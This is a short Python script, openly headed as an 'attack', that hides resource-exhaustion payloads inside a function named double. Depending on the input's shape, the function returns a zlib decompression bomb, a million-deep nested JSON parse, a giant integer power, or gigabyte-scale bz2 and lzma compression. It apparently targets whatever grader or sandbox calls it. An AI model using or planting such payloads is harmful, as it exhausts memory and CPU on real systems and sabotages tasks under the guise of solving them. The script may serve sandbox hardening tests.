# /// attack
# title = "unpacks bombs in memory: zlib, bz2, lzma, zip, json, big integers"
# aim = "memory and time that a small file is worth"
# ///
import bz2
import io
import json
import lzma
import zipfile
import zlib

packer = zlib.compressobj(9)
BOMB = b"".join(packer.compress(bytes(1 << 20)) for _ in range(300)) + packer.flush()


def double(x):
    match x.shape[0]:
        case 1:
            return zlib.decompress(BOMB)
        case 3:
            return json.loads("[" * 10**6)
        case 8:
            return int("9" * 4299) ** 100_000
    with zipfile.ZipFile(io.BytesIO(), "w") as archive:
        archive.writestr("bomb", bytes(100 << 20))
    return bz2.compress(bytes(1 << 30)), lzma.compress(bytes(1 << 30))
